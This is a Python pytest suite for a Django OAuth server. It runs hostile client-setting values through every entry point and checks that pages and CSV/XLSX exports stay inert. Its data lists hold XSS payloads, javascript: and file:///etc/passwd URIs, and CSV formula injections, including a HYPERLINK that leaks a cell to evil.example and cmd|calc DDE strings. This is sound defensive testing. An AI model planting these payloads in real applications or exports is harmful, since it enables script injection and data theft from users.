"""The hostile-values matrix: every door a client's settings come through by every field by every output.

A cell is (door, field, value). The door either refuses the value (a 4xx or a form error, and no row
written) or stores it; whatever is stored must then be inert in every output that shows it: the pages
(end user's apps, the consent page, the developer portal, the admin), and the spreadsheet exports.

New fields and new doors join by adding a row to FIELDS or DOORS, not a test file. The oracles below
are written from the threat (OWASP's XSS and CSV-injection cheat sheets), not from our policy, so they
judge whatever the policy does. The `legacy row` door writes with raw SQL: a value stored before a
policy existed must be rendered inert too.
"""

import csv
import html
import io
import json
import re
import secrets
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import urlsplit

import openpyxl
import pytest
from django.db import DataError, connection, transaction
from django.test import Client as HttpClient
from django.urls import reverse

from server import policies, services
from server.actors import Actor
from server.models import Client

pytestmark = pytest.mark.django_db

HOSTILE_URIS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "javascript://example.com/%0aalert(document.domain)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://user:password@example.com/",
    "http://evil.example.com/",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/\u202egnp.exe",
    "https://example.com/\x00",
    "https://example.com/" + "a" * 3000,
]
HOSTILE_TEXT = [
    '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Totally\u202eelgooG",
    "bell\x07name",
    "x" * 500,
]
DANGEROUS_SCHEMES = {"javascript", "data", "vbscript", "file"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Characters a browser strips or ignores inside a URL scheme (WHATWG URL: C0 controls and space).
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20]")
_ATTRIBUTE_URL = re.compile(r"""\b(?:href|src|action|formaction|srcset|poster)\s*=\s*(["'])(.*?)\1""", re.I)


# --- oracles ----------------------------------------------------------------------------------


def uri_is_safe(value: str, *, redirect: bool = False) -> bool:
    """A stored client URI is safe to keep: a plain http(s) URL without credentials or controls
    (a redirect URI may use a private-use scheme, RFC 8252 §7.1, but never a script-running one)."""
    if not value:
        return True
    if len(value) > 2048 or any(
        ord(ch) < 0x20 or ord(ch) == 0x7F or 0x202A <= ord(ch) <= 0x202E for ch in value
    ):
        return False
    parts = urlsplit(value)
    scheme = parts.scheme.lower()
    if scheme in DANGEROUS_SCHEMES or parts.username or parts.password or '"' in value or "<" in value:
        return False
    if scheme == "https":
        return bool(parts.hostname)
    if scheme == "http":
        return parts.hostname in {"127.0.0.1", "localhost", "::1"}
    return redirect and bool(scheme) and "." in scheme


def assert_page_inert(page: str, where: str) -> None:
    """No link or resource on the page points at a script-running scheme, and no raw markup from
    a hostile value made it into the HTML."""
    for _quote, raw in _ATTRIBUTE_URL.findall(page):
        url = _IGNORED_IN_SCHEME.sub("", html.unescape(raw)).lower()
        scheme = url.split(":", 1)[0] if ":" in url.split("/", 1)[0] else ""
        assert scheme not in DANGEROUS_SCHEMES, f"{where}: dangerous URL in an attribute: {raw!r}"
        parts = urlsplit(html.unescape(raw))
        assert not (parts.username or parts.password), f"{where}: credentials in a rendered URL: {raw!r}"
    assert "<script>alert(1)</script>" not in page, f"{where}: hostile markup rendered raw"
    assert "<img src=x onerror" not in page, f"{where}: hostile markup rendered raw"


def assert_csv_cells_neutral(content: bytes, where: str) -> None:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"{where}: CSV cell starts a formula: {cell[:40]!r}"


def assert_xlsx_cells_neutral(content: bytes, where: str) -> None:
    # Not data_only: a formula cell must be seen as a formula (data type "f"), not read as None.
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: XLSX formula cell {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), f"{where}: {cell.value[:40]!r}"


# --- the world a cell runs in -----------------------------------------------------------------


@dataclass
class World:
    operator: object
    developer: object
    end_user: object
    ops: HttpClient
    dev: HttpClient
    user: HttpClient
    anonymous: HttpClient


@pytest.fixture
def world(django_user_model):
    operator = django_user_model.objects.create_superuser("m-root", "root@example.com", "root-pw-123456")
    developer = django_user_model.objects.create_user("m-dana", "dana@example.com", "dana-pw-123456")
    end_user = django_user_model.objects.create_user("m-alice", "alice@example.com", "alice-pw-123456")
    clients = []
    for user in (operator, developer, end_user):
        http = HttpClient(HTTP_HOST="testserver")
        http.force_login(user)
        clients.append(http)
    return World(operator, developer, end_user, *clients, HttpClient(HTTP_HOST="testserver"))


BASE = {
    "name": "Matrix app",
    "client_uri": "https://app.example.com/",
    "logo_uri": "https://app.example.com/logo.png",
    "redirect_uris": "https://app.example.com/callback",
    "description": "An app of the matrix.",
    "jwks_uri": "https://app.example.com/jwks.json",
}


def _values(field: str, value: str) -> dict[str, str]:
    values = dict(BASE, name=f"Matrix {secrets.token_hex(4)}")
    values[field] = value
    return values


# --- the doors: each takes (world, values) and returns the stored client, or None if refused ---


def door_services(world: World, values: dict) -> Client | None:
    try:
        client, _secret = services.create_client(
            name=values["name"],
            actor=Actor.operator(world.operator),
            owner=world.developer,
            redirect_uris=values["redirect_uris"].split(),
            grant_types=["authorization_code", "refresh_token"],
            scope=["profile"],
            description=values["description"],
            client_uri=values["client_uri"],
            logo_uri=values["logo_uri"],
            jwks_uri=values["jwks_uri"],
        )
    except policies.PolicyError:
        return None
    return client


def _iat(world: World) -> str:
    _row, token = services.create_initial_access_token(
        actor=Actor.operator(world.operator),
        created_by=world.operator,
        allowed_scope=["profile"],
        allowed_grant_types=["authorization_code", "refresh_token"],
    )
    return token


def _metadata(values: dict) -> dict:
    return {
        "client_name": values["name"],
        "redirect_uris": values["redirect_uris"].split("\n"),
        "grant_types": ["authorization_code", "refresh_token"],
        "response_types": ["code"],
        "scope": "profile",
        "client_uri": values["client_uri"],
        "logo_uri": values["logo_uri"],
        "jwks_uri": values["jwks_uri"],
    }


def _registered_or_none(response, client_id: str | None) -> Client | None:
    assert response.status_code < 500, response.content[:300]
    if response.status_code >= 400:
        body = response.json()
        assert body["error"] in {"invalid_client_metadata", "invalid_redirect_uri", "invalid_request"}
        assert body.get("error_description"), "a refusal says what to fix"
        return None
    return Client.objects.get(client_id=client_id or response.json()["client_id"])


def door_registration(world: World, values: dict) -> Client | None:
    """RFC 7591 dynamic registration."""
    response = world.anonymous.post(
        "/oauth/register",
        json.dumps(_metadata(values)),
        content_type="application/json",
        secure=True,
        HTTP_AUTHORIZATION=f"Bearer {_iat(world)}",
    )
    return _registered_or_none(response, None)


def door_registration_update(world: World, values: dict) -> Client | None:
    """RFC 7592: register a clean client, then PUT the hostile value."""
    created = world.anonymous.post(
        "/oauth/register",
        json.dumps(_metadata(BASE)),
        content_type="application/json",
        secure=True,
        HTTP_AUTHORIZATION=f"Bearer {_iat(world)}",
    )
    assert created.status_code == 201, created.content
    body = created.json()
    update = {**_metadata(values), "client_id": body["client_id"]}
    response = world.anonymous.put(
        body["registration_client_uri"],
        json.dumps(update),
        content_type="application/json",
        secure=True,
        HTTP_AUTHORIZATION=f"Bearer {body['registration_access_token']}",
    )
    client = _registered_or_none(response, body["client_id"])
    if client is None:
        stored = Client.objects.get(client_id=body["client_id"])
        assert (stored.client_uri, stored.logo_uri) == (BASE["client_uri"], BASE["logo_uri"])
    return client


def _newest_if_created(before: int) -> Client | None:
    """The client a form door created, if it created one (forms may strip or normalise the name)."""
    return Client.objects.order_by("-pk").first() if Client.objects.count() > before else None


def door_portal(world: World, values: dict) -> Client | None:
    before = Client.objects.count()
    response = world.dev.post(
        "/developers/apps/new/",
        {
            **values,
            "client_type": "confidential",
            "grant_types": ["authorization_code", "refresh_token"],
            "scope": ["profile"],
        },
    )
    # A form error (200, or 400 where the door says so), or the redirect after a save.
    assert response.status_code in (200, 302, 400), response.status_code
    return _newest_if_created(before)


def door_admin(world: World, values: dict) -> Client | None:
    before = Client.objects.count()
    response = world.ops.post(
        reverse("admin:server_client_add"),
        {
            **values,
            "client_type": "confidential",
            "owner": "",
            "grant_types": ["authorization_code", "refresh_token"],
            "scope": ["profile"],
            "token_endpoint_auth_method": "",
            "contacts": "",
        },
    )
    # A form error (200, or 400 where the door says so), or the redirect after a save.
    assert response.status_code in (200, 302, 400), response.status_code
    return _newest_if_created(before)


def door_import(world: World, values: dict) -> Client | None:
    before = Client.objects.count()
    headers = ["client_id", "name", "client_type", "redirect_uris", "grant_types", "scope"]
    headers += ["description", "client_uri", "logo_uri", "jwks_uri"]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    row = [f"imp-{secrets.token_hex(4)}", values["name"], "confidential", values["redirect_uris"]]
    writer.writerow(
        [
            *row,
            "authorization_code",
            "profile",
            values["description"],
            values["client_uri"],
            values["logo_uri"],
            values["jwks_uri"],
        ]
    )
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("clients.csv", buffer.getvalue().encode(), content_type="text/csv")
    preview = world.ops.post(
        reverse("admin:server_client_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )
    assert preview.status_code == 200, preview.status_code
    assert "Traceback" not in preview.content.decode()
    confirm_form = preview.context.get("confirm_form") if preview.context else None
    if confirm_form is not None:
        world.ops.post(reverse("admin:server_client_process_import"), confirm_form.initial)
    return _newest_if_created(before)


def door_legacy_row(world: World, values: dict) -> Client | None:
    """A row stored before today's policy (or by a migration): written straight to the table.
    A value the database itself cannot hold (PostgreSQL: a NUL byte, more than the column's
    length) never was stored: that cell is a refusal, and the savepoint leaves no row behind."""
    try:
        with transaction.atomic():
            client, _secret = services.create_client(
                name="Legacy " + secrets.token_hex(4),
                actor=Actor.system("tests"),
                owner=world.developer,
                redirect_uris=["https://app.example.com/callback"],
                scope=["profile"],
            )
            Client.objects.filter(pk=client.pk).update(
                name=values["name"],
                client_uri=values["client_uri"],
                logo_uri=values["logo_uri"],
                description=values["description"],
                jwks_uri=values["jwks_uri"],
            )
    except DataError:
        assert connection.vendor == "postgresql", "SQLite stores whatever it is given"
        return None
    client.refresh_from_db()
    return client


DOORS: dict[str, Callable[[World, dict], Client | None]] = {
    "services": door_services,
    "registration": door_registration,
    "registration update": door_registration_update,
    "portal": door_portal,
    "admin": door_admin,
    "import": door_import,
    "legacy row": door_legacy_row,
}
# Fields a client's developer controls, with the oracle its stored value must satisfy.
URI_FIELDS = {"client_uri": False, "logo_uri": False, "redirect_uris": True, "jwks_uri": False}
TEXT_FIELDS = ["name", "description"]


# --- the outputs --------------------------------------------------------------------------------


def rendered_pages(world: World, client: Client) -> dict[str, str]:
    """Every page that shows this client to someone, as that someone sees it."""
    Client.objects.filter(pk=client.pk).update(owner=world.developer, status=Client.Status.ACTIVE)
    services.record_consent(user=world.end_user, client=client, scope="profile")
    pages = {
        "/account/apps/": world.user.get("/account/apps/"),
        "portal detail": world.dev.get(f"/developers/apps/{client.client_id}/"),
        "portal home": world.dev.get("/developers/"),
        "admin change": world.ops.get(reverse("admin:server_client_change", args=[client.pk])),
        "admin list": world.ops.get(reverse("admin:server_client_changelist")),
    }
    redirect_uri = client.redirect_uri_list[0] if client.redirect_uri_list else ""
    if redirect_uri:
        consent = HttpClient(HTTP_HOST="testserver")
        consent.force_login(world.end_user)
        query = {"response_type": "code", "client_id": client.client_id, "redirect_uri": redirect_uri}
        query.update(scope="profile email", state="s", code_challenge="x" * 43, code_challenge_method="S256")
        from urllib.parse import urlencode

        pages["consent page"] = consent.get("/oauth/authorize?" + urlencode(query), secure=True)
    for where, response in pages.items():
        assert response.status_code in (200, 302, 400), (where, response.status_code)
    return {where: response.content.decode() for where, response in pages.items()}


def client_exports(world: World) -> dict[str, bytes]:
    fields = ["client_id", "name", "description", "client_uri", "logo_uri", "redirect_uris", "scope"]
    exports = {}
    for label, file_format in (("clients.csv", "0"), ("clients.xlsx", "2")):
        data = {"format": file_format, **{f"clientresource_{name}": "on" for name in fields}}
        response = world.ops.post(reverse("admin:server_client_export"), data)
        assert response.status_code == 200, (label, response.status_code)
        exports[label] = response.content
    return exports


# --- the matrix ---------------------------------------------------------------------------------


def _cell_ids(cells):
    return [f"{door}|{field}|{value[:24]!r}" for door, field, value in cells]


def _through_the_door(world: World, door: str, field: str, value: str) -> Client | None:
    """Send the value through the door; a refusal must leave every client row as it was (the
    7592 door registers a clean client first: that one must be unchanged, not absent)."""
    before = {row["id"]: row for row in Client.objects.values()}
    client = DOORS[door](world, _values(field, value))
    if client is None:
        after = {row["id"]: row for row in Client.objects.values()}
        grown = {pk: row for pk, row in after.items() if pk not in before}
        if door == "registration update":
            assert len(grown) == 1, "only the clean client registered before the update"
            (row,) = grown.values()
            assert (row["client_uri"], row["name"]) == (BASE["client_uri"], BASE["name"])
        else:
            assert not grown, "a refused value wrote nothing"
        assert {pk: after[pk] for pk in before} == before, "a refused value changed nothing"
    return client


URI_CELLS = [(d, f, v) for d in DOORS for f in URI_FIELDS for v in HOSTILE_URIS]
TEXT_CELLS = [(d, f, v) for d in DOORS for f in TEXT_FIELDS for v in HOSTILE_TEXT]


@pytest.mark.parametrize("door, field, value", URI_CELLS, ids=_cell_ids(URI_CELLS))
def test_a_hostile_uri_is_refused_at_the_door_or_stored_and_rendered_inert(world, door, field, value):
    client = _through_the_door(world, door, field, value)
    if client is None:
        return
    stored = client.redirect_uris if field == "redirect_uris" else getattr(client, field)
    if door != "legacy row":
        for uri in stored.split():
            assert uri_is_safe(uri, redirect=URI_FIELDS[field]), f"{door} stored {field}={uri!r}"
    for where, page in rendered_pages(world, client).items():
        assert_page_inert(page, f"{door}/{field} on {where}")


@pytest.mark.parametrize("door, field, value", TEXT_CELLS, ids=_cell_ids(TEXT_CELLS))
def test_hostile_text_is_refused_at_the_door_or_stored_and_exported_and_rendered_inert(
    world, door, field, value
):
    client = _through_the_door(world, door, field, value)
    if client is None:
        return
    for where, page in rendered_pages(world, client).items():
        assert_page_inert(page, f"{door}/{field} on {where}")
    exports = client_exports(world)
    assert_csv_cells_neutral(exports["clients.csv"], f"{door}/{field} clients.csv")
    assert_xlsx_cells_neutral(exports["clients.xlsx"], f"{door}/{field} clients.xlsx")
